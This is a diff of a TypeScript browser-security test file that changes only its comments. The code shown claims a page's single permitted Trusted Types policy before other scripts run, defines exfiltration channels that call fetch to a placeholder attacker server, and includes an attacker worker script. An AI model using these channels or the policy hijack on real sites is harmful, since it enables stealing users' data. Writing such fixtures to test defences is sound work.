@@ -1,10 +1,10 @@
-/** One exfiltration channel. Runs inside the browser and closes over nothing. */
+/** An exfiltration channel. Runs in the browser, so it cannot use variables from outside. */
 type Channel = (target: { at: string; port: number }) => unknown;
 
-/** What a stranger's script that came before ours has taken for itself: the one policy that our headers allow. */
+/** The Trusted Types policy our CSP allows, claimed by a hostile script that ran first. */
 declare const taken: { createScriptURL(url: string): string };
 
-/** Runs before every script of the page, as a poisoned package would that is bundled first. */
+/** Runs before any script of the page, as a compromised package would if it is bundled first. */
 export function takePolicy() {
   interface Factory {
     createPolicy(name: string, rules: { createScriptURL(url: string): string }): typeof taken;
@@ -14,7 +14,7 @@ export function takePolicy() {
   Object.assign(window, { taken: trustedTypes?.createPolicy('app-sw', rules) ?? rules });
 }
 
-/** Those that take the page away, cover it, or change what it may: each needs a page of its own. */
+/** Channels that replace or cover the page or change its permissions, and so need a page each. */
 export const alone: ReadonlySet<string> = new Set([
   'form',
   'another address',
@@ -27,9 +27,9 @@ export const alone: ReadonlySet<string> = new Set([
 ]);
 
 /**
- * Every way out of a page that we know, as a script that has got into our page would try it. `at` is the
- * stranger's server and `port` its port; what these write into the address is what they would carry away.
- * Each runs inside the browser, so it may use nothing from outside of itself.
+ * Every known way to send data out of a page, as an injected script would try it. `at` is the URL of the attacker's
+ * server and `port` its port; the data is in the URL. Each runs in the browser, so it cannot use variables from
+ * outside.
  */
 export const channels: Record<string, Channel> = {
   fetch: ({ at }) => fetch(`${at}/fetch`),
@@ -258,7 +258,7 @@ export const channels: Record<string, Channel> = {
   },
 };
 
-/** A script beside ours that a worker of the stranger runs: it asks for the address it was given. */
+/** A worker script of the attacker, which fetches the URL it was given. */
 export const strangersScript = `
   const [, target] = self.location.href.split(/[#?]/);
   const ask = () => fetch(target, { mode: 'no-cors' }).catch(() => undefined);
